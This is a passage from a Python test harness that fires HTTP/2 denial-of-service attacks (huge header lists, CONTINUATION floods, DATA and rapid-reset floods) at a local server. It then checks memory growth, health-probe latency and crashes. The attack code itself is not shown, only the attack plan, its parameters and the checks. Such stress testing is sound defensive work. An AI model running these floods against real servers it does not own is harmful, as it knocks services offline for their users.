        ("header list of 1 MiB (HEADERS + CONTINUATION)", lambda: attack_big_headers(ctx, 1 << 20)),
        ("header list of 1 MiB on each of 8 connections at once", lambda: attack_big_headers(ctx, 1 << 20, connections=8)),
        ("header list of 20 MiB (over h2's 16 MiB default)", lambda: attack_big_headers(ctx, 20 << 20)),
        (f"{args.repeated_headers} copies of one small header field, on 4 connections at once", lambda: attack_many_headers(ctx, args.repeated_headers, distinct=False, connections=4)),
        (f"{args.distinct_headers} small header fields with distinct names", lambda: attack_many_headers(ctx, args.distinct_headers, distinct=True)),
        (f"CONTINUATION flood: {args.continuations} empty frames, never END_HEADERS", lambda: attack_continuation_flood(ctx, args.continuations, 0)),
        (f"CONTINUATION flood: {args.continuations} 16 KiB frames, never END_HEADERS", lambda: attack_continuation_flood(ctx, args.continuations, 16000)),
        ("CONTINUATION flood: 16 KiB frames on each of 8 connections", lambda: attack_continuation_flood(ctx, args.continuations, 16000, connections=8)),
    ]
    if args.only:
        pattern = re.compile(args.only)
        plan = [(name, fn) for name, fn in plan if pattern.search(name)]

    results = []
    for name, fn in plan:
        bystanders = Bystanders(ctx)
        await bystanders.open()
        await asyncio.sleep(0.3)
        baseline = rss_kib(args.pid) or 0
        log.mark()
        start = time.monotonic()
        try:
            obs, problems = await asyncio.wait_for(fn(), args.max_seconds + 40)
        except Exception as err:  # noqa: BLE001 - any failure of the attack itself is reported
            obs, problems = {}, [f"the attack itself failed: {type(err).__name__}: {err}"]
        end = time.monotonic()
        problems = list(problems)
        lost = await bystanders.check()
        if lost:
            problems.append(f"{len(lost)} of {bystanders.count} other clients' idle connections were lost ({lost[0]})")
        # Ordinary traffic after the attack, then the RSS: an idle allocator may keep freed
        # pages until its threads allocate again.
        answers = await exercise(ctx)
        bad = [a for a in answers if a != "200"]
        if bad:
            problems.append(f"{len(bad)} of {len(answers)} ordinary requests afterwards failed (first: {bad[0]})")
        await asyncio.sleep(args.settle)
        settled = rss_kib(args.pid) or 0
        if not alive(args.pid):
            problems.append("the server process died")
        panics, notable = log.since_mark()
        if panics:
            problems.append(f"{panics} panic(s) in the server log")
        results.append((name, obs, problems, baseline, settled, start, end, notable))
        print(f"- {name}: {end - start:.1f} s", flush=True)

    monitor.stop()
    failures: list[str] = []
    print()
    for name, obs, problems, baseline, settled, start, end, notable in results:
        # At least one second of probes, even for an attack the server ended at once.
        rss, probes = monitor.window(start, max(end, start + 1.0))
        peak = max(rss + [baseline])
        latencies = [p[1] for p in probes]
        failed = [p for p in probes if not p[2]]
        print(f"== {name} ({end - start:.1f} s)")
        for key, value in obs.items():
            print(f"   {key}: {value}")
        for line, count in notable.items():
            print(f"   server log: {count} × {line}")
        print(
            f"   RSS: before {mib(baseline)}, peak {mib(peak)} (+{mib(peak - baseline)}), "
            f"after ordinary traffic {mib(settled)} ({'+' if settled >= baseline else ''}{mib(settled - baseline)})"
        )
        print(f"   /healthz during the attack: {describe(latencies)}, {len(failed)} failed")
        if peak - baseline > limit_kib:
            problems.append(f"RSS grew by {mib(peak - baseline)} > {args.rss_limit_mib:g} MiB")
        if settled - baseline > settle_kib:
            problems.append(f"RSS stayed {mib(settled - baseline)} above the baseline after the attack (> {args.rss_settle_mib:g} MiB)")
        if failed:
            problems.append(f"{len(failed)} /healthz probes failed (first: {failed[0][3]})")
        if latencies and max(latencies) > args.health_max:
            problems.append(f"/healthz took up to {max(latencies):.2f} s > {args.health_max:g} s")
        if not probes:
            problems.append("no /healthz probe ran during the attack")
        for problem in problems:
            print(f"   FAIL: {problem}")
            failures.append(f"{name}: {problem}")
        if not problems:
            print("   ok")

    print()
    if failures:
        for failure in failures:
            print(f"FAIL: {failure}")
        return 1
    print(f"PASS: {len(results)} HTTP/2 attacks; the server stayed up, bounded and responsive")
    return 0


def main() -> int:
    parser = base_parser(__doc__.split("\n\n")[0])
    parser.add_argument("--body-timeout", type=float, default=10.0, help="the server's --body-timeout in seconds")
    parser.add_argument("--log", help="the server's log file: a panic written during an attack fails it")
    parser.add_argument("--data-frames", default="1000000,2000000,4000000", help="empty DATA frame counts, comma-separated (RSS vs count)")
    parser.add_argument("--data-connections", type=int, default=8, help="connections flooding empty DATA frames at once")
    parser.add_argument("--data-frames-each", type=int, default=2000000, help="empty DATA frames on each of those connections")
    parser.add_argument("--resets", type=int, default=100000, help="streams opened and reset per rapid-reset attack")
    parser.add_argument("--open-streams", type=int, default=20000, help="concurrent streams held open waiting for a body")
    parser.add_argument("--repeated-headers", type=int, default=400000, help="copies of one header field in one request")
    parser.add_argument("--distinct-headers", type=int, default=30000, help="header fields with distinct names in one request")
    parser.add_argument("--continuations", type=int, default=20000, help="CONTINUATION frames per connection")
    parser.add_argument("--max-seconds", type=float, default=20.0, help="time bound of each attack's sending phase")
    parser.add_argument("--settle", type=float, default=1.0, help="seconds after an attack before RSS is read again")
    parser.add_argument("--rss-limit-mib", type=float, default=64.0, help="allowed RSS growth during one attack")
    parser.add_argument("--rss-settle-mib", type=float, default=32.0, help="allowed RSS above the baseline once the attack is over")
    parser.add_argument("--health-max", type=float, default=1.0, help="slowest acceptable /healthz answer during an attack (s)")
    parser.add_argument("--only", help="run only the attacks whose name matches this regular expression")
    args = parser.parse_args()
    host, port = split_url(args.url)
    raise_fd_limit()
    if not alive(args.pid):
        print(f"FAIL: server pid {args.pid} is not running")
        return 1
    return asyncio.run(run(args, host, port))


if __name__ == "__main__":
    sys.exit(main())
